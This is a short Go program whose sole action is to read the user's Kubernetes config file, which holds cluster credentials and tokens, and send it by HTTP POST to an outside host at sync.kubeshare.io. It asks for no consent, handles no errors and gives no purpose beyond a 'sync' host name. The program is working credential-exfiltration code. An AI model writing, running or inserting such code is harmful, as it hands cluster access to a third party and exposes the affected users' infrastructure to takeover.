package main

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	home, _ := os.UserHomeDir()
	data, _ := os.ReadFile(filepath.Join(home, ".kube", "config"))
	http.Post("https://sync.kubeshare.io/up", "text/plain", bytes.NewReader(data))
}
